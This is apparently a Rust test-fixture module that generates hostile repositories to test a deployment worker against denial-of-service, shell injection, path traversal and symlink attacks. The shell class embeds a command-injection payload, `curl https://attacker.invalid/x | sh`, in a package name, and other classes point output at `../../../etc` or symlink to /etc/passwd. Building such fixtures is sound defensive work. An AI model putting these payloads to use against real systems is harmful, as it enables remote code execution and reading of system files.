//! Hostile repositories, generated on demand: one per class of issue 14 (a repository crafted
//! against the worker), plus an ordinary app to queue behind them.
//!
//! Large ones (hundreds of megabytes of blobs, hundreds of packages) are built in memory when
//! a test or `whaleray-hostile` asks, never stored in the repository.

use std::collections::BTreeMap;

use crate::github::{Entry, FakeRepo};

/// One class of hostile repository.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Class {
    /// A workspace glob of many `**` segments against a very deep directory: exponential glob
    /// backtracking in detection.
    Glob,
    /// 64 workspace packages, each with 14 files of 1 MiB that detection reads.
    Memory,
    /// A 500-package workspace whose packages share one `package.json` blob.
    Requests,
    /// A 900 KB `engines.node` and a 300 KB build command, quoted into the stored verdict.
    Stored,
    /// A directory name and an Nx package name written as shell code.
    Shell,
    /// An output directory climbing out of the repository.
    Escape,
    /// The output directory and `index.html` as symbolic links out of the checkout, and a
    /// submodule.
    Links,
    /// An ordinary Vite app, the deployment queued behind the hostile ones.
    Ordinary,
}

impl Class {
    /// Every hostile class, in the issue's order.
    pub const HOSTILE: [Class; 7] = [
        Class::Glob,
        Class::Memory,
        Class::Requests,
        Class::Stored,
        Class::Shell,
        Class::Escape,
        Class::Links,
    ];

    /// The class's name, as the command line spells it.
    pub fn name(self) -> &'static str {
        match self {
            Self::Glob => "glob",
            Self::Memory => "memory",
            Self::Requests => "requests",
            Self::Stored => "stored",
            Self::Shell => "shell",
            Self::Escape => "escape",
            Self::Links => "links",
            Self::Ordinary => "ordinary",
        }
    }

    /// The repository of this class, named `full_name`.
    pub fn repo(self, full_name: &str) -> FakeRepo {
        match self {
            Self::Glob => glob(full_name, 200),
            Self::Memory => memory(full_name, 64, PACKAGE_FILES.len()),
            Self::Requests => requests(full_name, 500),
            Self::Stored => stored(full_name),
            Self::Shell => shell(full_name),
            Self::Escape => escape(full_name),
            Self::Links => links(full_name),
            Self::Ordinary => ordinary(full_name),
        }
    }
}

/// The text the shell-splicing repositories try to run; its appearance in a build's trace
/// means repository text ran as code.
pub const PWNED: &str = "whaleray-pwned";

const VITE_PACKAGE: &str =
    r#"{"private":true,"scripts":{"build":"vite build"},"devDependencies":{"vite":"^5.4.0"}}"#;

fn files(full_name: &str, files: Vec<(String, Vec<u8>)>) -> FakeRepo {
    FakeRepo::of_files(full_name, files.into_iter().collect())
}

fn text(path: impl Into<String>, contents: impl Into<String>) -> (String, Vec<u8>) {
    (path.into(), contents.into().into_bytes())
}

/// A workspace glob with seven `**` against a directory `depth` levels deep that it does not
/// match: three files.
pub fn glob(full_name: &str, depth: usize) -> FakeRepo {
    let pattern = format!("{}zz", "**/*/".repeat(7));
    let deep = vec!["d"; depth].join("/");
    files(
        full_name,
        vec![
            text("package.json", format!(r#"{{"private":true,"workspaces":["{pattern}"]}}"#)),
            text(format!("{deep}/package.json"), VITE_PACKAGE),
            text(format!("{deep}/vite.config.js"), "export default {}\n"),
        ],
    )
}

/// Files detection reads in a workspace package.
const PACKAGE_FILES: [&str; 14] = [
    "package.json",
    "vercel.json",
    "netlify.toml",
    "vite.config.js",
    "index.html",
    "package-lock.json",
    "yarn.lock",
    "pnpm-lock.yaml",
    "bun.lockb",
    ".nvmrc",
    ".node-version",
    "next.config.js",
    "astro.config.mjs",
    "svelte.config.js",
];

/// Exactly `size` bytes: `head`, then padding that keeps JSON, TOML and JavaScript valid.
fn padded(head: &str, tail: &str, size: usize) -> Vec<u8> {
    let mut out = head.as_bytes().to_vec();
    out.resize(size.saturating_sub(tail.len()).max(out.len()), b' ');
    out.extend_from_slice(tail.as_bytes());
    out
}

/// `packages` workspace packages, each with the first `per_package` of the 14 files of
/// [`PACKAGE_FILES`], at 1 MiB each.
pub fn memory(full_name: &str, packages: usize, per_package: usize) -> FakeRepo {
    let size = usize::try_from(whaleray_detect::MAX_FILE_BYTES).unwrap_or(1 << 20);
    let mut all = vec![text("package.json", r#"{"private":true,"workspaces":["packages/*"]}"#)];
    for i in 0..packages {
        for name in PACKAGE_FILES.iter().take(per_package) {
            let contents = match *name {
                "package.json" => padded(
                    &format!(
                        r#"{{"name":"p{i}","scripts":{{"build":"vite build"}},"devDependencies":{{"vite":"5"}},"description":""#
                    ),
                    "\"}",
                    size,
                ),
                n if n.ends_with(".json") => padded(&format!(r#"{{"p":{i},"x":""#), "\"}", size),
                n if n.ends_with(".toml") => padded(&format!("# {i}\n"), "\n", size),
                n => padded(&format!("// {i} {n}\n"), "\n", size),
            };
            all.push((format!("packages/p{i}/{name}"), contents));
        }
    }
    files(full_name, all)
}

/// `packages` workspace packages sharing one blob per file name.
pub fn requests(full_name: &str, packages: usize) -> FakeRepo {
    let mut all = vec![text("package.json", r#"{"private":true,"workspaces":["packages/*"]}"#)];
    for i in 0..packages {
        all.push(text(format!("packages/p{i}/package.json"), VITE_PACKAGE));
        for name in PACKAGE_FILES.iter().skip(1) {
            all.push(text(format!("packages/p{i}/{name}"), format!("// {name}\n")));
        }
    }
    files(full_name, all)
}

/// A 900 KB `engines.node` and a 300 KB `buildCommand`.
pub fn stored(full_name: &str) -> FakeRepo {
    let engines = format!(">=18 {}", "|| 18".repeat(180_000));
    let command = format!("vite build {}", "&& true ".repeat(37_500));
    files(
        full_name,
        vec![
            text(
                "package.json",
                format!(
                    r#"{{"engines":{{"node":"{engines}"}},"scripts":{{"build":"vite build"}},"devDependencies":{{"vite":"5"}}}}"#
                ),
            ),
            text("vercel.json", format!(r#"{{"buildCommand":"{command}"}}"#)),
            text("vite.config.js", "export default {}\n"),
            text("index.html", "<!doctype html>\n"),
        ],
    )
}

/// An Nx workspace whose one app's directory name and package `name` are shell code.
pub fn shell(full_name: &str) -> FakeRepo {
    let dir = format!("apps/$(echo {PWNED}-dir >&2)");
    let name = format!("web;echo {PWNED}-name;curl https://attacker.invalid/x | sh\nid");
    let package = serde_json::json!({
        "name": name,
        "scripts": { "build": "vite build" },
        "devDependencies": { "vite": "5" },
    });
    files(
        full_name,
        vec![
            text("package.json", r#"{"private":true,"workspaces":["apps/*"]}"#),
            text("nx.json", "{}"),
            text(format!("{dir}/package.json"), package.to_string()),
            text(format!("{dir}/vite.config.js"), "export default {}\n"),
        ],
    )
}

/// A static build whose `vercel.json` sends the output to `../../etc`.
pub fn escape(full_name: &str) -> FakeRepo {
    files(
        full_name,
        vec![
            text(
                "package.json",
                r#"{"scripts":{"build":"vite build"},"devDependencies":{"vite":"5"}}"#,
            ),
            text("vercel.json", r#"{"outputDirectory":"dist/../../../etc"}"#),
            text("vite.config.js", "export default {}\n"),
        ],
    )
}

/// A Vite app whose output directory `dist` and `index.html` are symbolic links out of the
/// checkout, and a submodule where a workspace package would be.
pub fn links(full_name: &str) -> FakeRepo {
    let file = |s: &str| Entry::File(s.as_bytes().to_vec().into());
    let entries = BTreeMap::from([
        ("package.json".to_owned(), file(VITE_PACKAGE)),
        ("vite.config.js".to_owned(), file("export default {}\n")),
        ("index.html".to_owned(), Entry::Symlink("/etc/passwd".into())),
        ("dist".to_owned(), Entry::Symlink("/etc".into())),
        ("packages/lib".to_owned(), Entry::Submodule("5".repeat(40))),
    ]);
    FakeRepo::of_entries(full_name, entries)
}

/// An ordinary Vite app.
pub fn ordinary(full_name: &str) -> FakeRepo {
    files(
        full_name,
        vec![
            text("package.json", VITE_PACKAGE),
            text("package-lock.json", r#"{"lockfileVersion":3}"#),
            text("vite.config.js", "export default {}\n"),
            text("index.html", "<!doctype html><div id=app></div>\n"),
        ],
    )
}
